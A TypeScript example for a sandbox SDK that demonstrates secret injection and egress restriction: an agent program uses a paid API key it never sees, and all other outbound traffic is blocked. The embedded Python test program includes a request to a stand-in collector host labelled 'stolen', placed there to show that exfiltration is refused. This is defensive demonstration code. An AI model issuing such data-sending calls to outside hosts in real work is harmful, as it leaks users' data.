// An agent calls a paid API with a key that it never sees: the platform puts the key into its requests on their way out,
// and nothing but that API can be reached.
//
// PAID_API_URL and PAID_API_KEY name the API and the key. Where network settings are not enforced, creating fails, and says so.
import { Client, secret } from '@svc/sdk';

const url = new URL(process.env.PAID_API_URL ?? 'https://api.example.com/v1/answer');
const key = process.env.PAID_API_KEY ?? 'key-of-the-paid-api';

const client = new Client();
const name = `paid-api-${Date.now()}`;
await client.secrets.create({ name, value: key });

// A program that a model wrote. It has no key to send, to print or to leak.
const program = `
import os, urllib.request

print('answer:', urllib.request.urlopen('${url.href}', timeout=30).read().decode().strip())
print('key in the environment:', any('${key.slice(0, 4)}' in value for value in os.environ.values()))
try:
    urllib.request.urlopen('https://collector.example.com/?stolen', timeout=30)
except OSError as error:
    print('elsewhere:', 'refused')
`;

let sandbox;
try {
  sandbox = await client.sandboxes.create({
    network: {
      denyOut: ['0.0.0.0/0'],
      allowOut: [url.hostname],
      rules: { [url.hostname]: [{ transform: { headers: { Authorization: `Bearer ${secret(name)}` } } }] },
    },
  });
  await sandbox.files.write('agent.py', program);
  const { stdout } = await sandbox.commands.run('python3 agent.py', { timeoutMs: 60_000 });
  console.log(stdout.trim());
} finally {
  await sandbox?.kill();
  await client.secrets.delete(name);
}
